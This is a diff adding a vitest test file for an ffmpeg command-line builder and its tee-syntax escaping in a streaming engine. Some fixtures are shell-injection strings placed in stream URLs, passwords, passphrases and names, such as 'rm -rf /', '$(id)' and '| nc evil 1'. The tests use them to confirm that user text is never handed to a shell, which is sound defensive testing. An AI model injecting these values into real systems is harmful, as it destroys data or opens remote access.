@@ -1,0 +1,124 @@
+import { describe, expect, it } from 'vitest';
+import { buildFfmpegArgs, ffmpegLogLevel } from '../../engine/ffmpeg/build-args.ts';
+import { escapeToken, formatOptionList, formatTee } from '../../engine/ffmpeg/tee.ts';
+import { LOG_LEVELS, type OutputSpec } from '../../engine/types.ts';
+import { getToken, parseOptionList, parseTee, teeSlaves, testEncoding, testJob } from './ffmpeg-argv.ts';
+
+describe('buildFfmpegArgs', () => {
+  it('starts with the fixed prefix: no banner, no stdin, no stats, level-tagged log, progress on fd 3', () => {
+    const { args } = buildFfmpegArgs(testJob());
+    expect(args.slice(0, 8)).toEqual(['-hide_banner', '-nostdin', '-nostats', '-loglevel', 'repeat+level+info', '-progress', 'pipe:3', '-thread_queue_size']);
+    expect(buildFfmpegArgs(testJob(), { ffmpegLogLevel: 'debug' }).args[4]).toBe('repeat+level+debug');
+    expect(() => buildFfmpegArgs(testJob(), { ffmpegLogLevel: 'loud' })).toThrow(/Unknown ffmpeg log level/);
+  });
+
+  it("maps the job's log level to ffmpeg's", () => {
+    expect(Object.fromEntries(LOG_LEVELS.map((level) => [level, ffmpegLogLevel(level)]))).toEqual({
+      TRACE: 'trace',
+      DEBUG: 'debug',
+      VERBOSE: 'verbose',
+      INFO: 'info',
+      NOTICE: 'info',
+      WARNING: 'warning',
+      ERROR: 'error',
+      FATAL: 'fatal',
+    });
+    expect(buildFfmpegArgs(testJob({ logLevel: 'WARNING' })).args[4]).toBe('repeat+level+warning');
+  });
+
+  it('a relay copies the video and audio of the source', () => {
+    const { args } = buildFfmpegArgs(testJob());
+    expect(args).toEqual(expect.arrayContaining(['-map', '0:v?', '-map', '0:a?', '-c', 'copy']));
+    expect(args).not.toContain('-filter_complex');
+  });
+
+  it('is an argv array: every entry its own string, nothing for a shell, user text never split or joined', () => {
+    const outputs: OutputSpec[] = [
+      { index: 0, type: 'rtmp', url: 'rtmp://live.example.com/app/key;rm${IFS}-rf', username: 'u', password: "$(id)`x`'q'\"d\"|&;" },
+      { index: 1, type: 'srt', mode: 'caller', host: 'a.example.com', port: 9000, passphrase: "x; rm -rf / && echo 'pwned'", streamId: '| nc evil 1' },
+    ];
+    const { args } = buildFfmpegArgs(testJob({ name: 'name; rm -rf /', outputs, encoding: testEncoding() }));
+    expect(Array.isArray(args)).toBe(true);
+    expect(args.every((arg) => typeof arg === 'string')).toBe(true);
+    // No entry is a whole command line, and nothing starts a shell.
+    expect(args.some((arg) => /^(sh|bash|\/bin\/sh)$/.test(arg) || arg === '-c' || arg.startsWith('ffmpeg '))).toBe(false);
+    // The user's texts arrive unchanged where ffmpeg reads them.
+    const [rtmp, srt] = teeSlaves(args);
+    expect(rtmp.url).toBe("rtmp://u:$(id)`x`'q'\"d\"|&;@live.example.com/app/key;rm${IFS}-rf");
+    expect(srt.options.passphrase).toBe("x; rm -rf / && echo 'pwned'");
+    expect(srt.options.streamid).toBe('| nc evil 1');
+    expect(teeSlaves(args)).toHaveLength(2);
+  });
+
+  it('no value taken from the spec can become an option: every one follows its option name', () => {
+    const { args } = buildFfmpegArgs(
+      testJob({
+        input: { type: 'uri', uri: 'srt://ingest.example.com:9000?mode=caller&passphrase=-y' },
+        outputs: [{ index: 0, type: 'hls', dir: '/srv/-hls', segmentDurationSeconds: 2, containerType: 'TS' }],
+        encoding: testEncoding({ video: { codec: 'libx264', bitrateKbps: 1000, params: { preset: '-i' } } }),
+      }),
+    );
+    args.forEach((arg, i) => {
+      if (arg === '-i' && args[i - 1] === '-preset:v') return;
+      if (arg.startsWith('-') && !/^-[a-z_0-9:+-]+$/i.test(arg)) throw new Error(`unexpected option-like entry ${arg}`);
+    });
+    expect(args[args.indexOf('-preset:v') + 1]).toBe('-i');
+  });
+
+  it('creates the output directories before start and says when stdout carries TS', () => {
+    const command = buildFfmpegArgs(
+      testJob({
+        outputs: [
+          { index: 0, type: 'hls', dir: '/srv/out/hls', segmentDurationSeconds: 2, containerType: 'TS' },
+          { index: 1, type: 'dash', dir: '/srv/out/dash', segmentDurationSeconds: 2 },
+          { index: 2, type: 'cmaf', dir: '/srv/out/cmaf/', segmentDurationSeconds: 2, disabled: true },
+          { index: 3, type: 'mpegts' },
+        ],
+      }),
+    );
+    expect(command.directories).toEqual(['/srv/out/hls', '/srv/out/dash']);
+    expect(command.usesStdout).toBe(true);
+  });
+
+  it('asks encoders for global headers only when an FLV or MP4 output needs them', () => {
+    const udp: OutputSpec = { index: 0, type: 'udp', host: '239.1.1.1', port: 5000 };
+    expect(buildFfmpegArgs(testJob({ outputs: [udp], encoding: testEncoding() })).args).not.toContain('+global_header');
+    const withRtmp = buildFfmpegArgs(testJob({ outputs: [udp, { index: 1, type: 'rtmp', url: 'rtmp://a.example.com/app/k' }], encoding: testEncoding() })).args;
+    expect(withRtmp).toEqual(expect.arrayContaining(['-flags:v', '+global_header', '-flags:a', '+global_header']));
+    // A relay copies streams: there is no encoder to ask.
+    expect(buildFfmpegArgs(testJob({ outputs: [{ index: 1, type: 'rtmp', url: 'rtmp://a.example.com/app/k' }] })).args).not.toContain('+global_header');
+  });
+
+  it('refuses an unknown input or output type and a bad video type', () => {
+    expect(() => buildFfmpegArgs(testJob({ input: { type: 'ndi' } as never }))).toThrow(/Unknown input type "ndi"/);
+    expect(() => buildFfmpegArgs(testJob({ outputs: [{ index: 0, type: 'webrtc' } as never] }))).toThrow(/Unknown output type "webrtc"/);
+    expect(() => buildFfmpegArgs(testJob({ videoType: 'BOTH' as never }))).toThrow(/LIVE or VOD/);
+  });
+});
+
+describe('tee syntax', () => {
+  it('escapes values so ffmpeg reads them back exactly', () => {
+    const nasty = ["a:b", 'c|d', 'e]f[g', "h'i", 'j\\k', ' lead and trail ', 'v:0,a:0 v:1,a:1', '', 'plain'];
+    for (const value of nasty) {
+      const text = formatTee([{ options: [['f', 'mpegts'], ['opt', value]], url: 'udp://1.2.3.4:5?pkt_size=1316' }]);
+      expect(parseTee(text)).toEqual([{ options: { f: 'mpegts', opt: value }, url: 'udp://1.2.3.4:5?pkt_size=1316' }]);
+    }
+  });
+
+  it('escapes URLs holding the slave separator and nested option lists', () => {
+    const slaves = parseTee(
+      formatTee([
+        { options: [['f', 'hls']], url: '/srv/a|b/index.m3u8' },
+        { options: [['use_fifo', '1'], ['fifo_options', formatOptionList([['format_opts', 'x=1:y=2'], ['queue_size', '60']])]], url: "srt://h:1?x='q'" },
+      ]),
+    );
+    expect(slaves.map((s) => s.url)).toEqual(['/srv/a|b/index.m3u8', "srt://h:1?x='q'"]);
+    expect(parseOptionList(slaves[1].options.fifo_options)).toEqual({ format_opts: 'x=1:y=2', queue_size: '60' });
+  });
+
+  it('reads av_get_token the way ffmpeg does', () => {
+    expect(getToken("  a\\:b'c:d'e  :rest", 0, ':')).toEqual({ token: 'a:bc:de', end: 14 });
+    expect(escapeToken('a b', ':')).toBe('a\\ b');
+    expect(() => formatTee([])).toThrow(/at least one output/);
+  });
+});
